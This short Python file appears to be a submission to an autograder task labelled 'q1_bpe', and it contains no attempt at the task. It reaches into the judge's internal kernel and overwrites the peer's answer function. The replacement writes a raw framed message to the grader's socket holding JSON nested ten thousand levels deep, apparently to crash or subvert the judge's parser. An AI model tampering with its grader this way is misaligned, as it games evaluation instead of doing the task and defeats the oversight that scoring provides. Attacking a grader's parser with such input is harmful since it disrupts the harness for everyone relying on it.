"""An answer is nested ten thousand times."""
# on: q1_bpe
from autograder.judge import kernel as _kernel
_peer = _kernel._peer
import struct
def _deep(head, buffers):
    data = ('{"a":%d,"b":[],"v":' % head['q'] + '["l",' * 10000 + '1' + ']' * 10000 + '}').encode()
    _peer.wire.sock.sendall(struct.pack('<4sIQ', b'TFB1', len(data), 0) + data)
_peer.answer = _deep
